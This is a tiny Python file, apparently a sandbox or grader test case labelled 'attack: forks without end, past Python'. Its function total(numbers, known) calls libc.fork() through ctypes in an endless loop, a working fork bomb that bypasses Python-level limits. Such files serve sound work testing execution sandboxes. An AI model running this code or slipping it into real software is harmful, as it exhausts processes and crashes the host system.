# attack: forks without end, past Python
# expects: any
# within: 0.5

import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def total(numbers, known):
    while True:
        libc.fork()
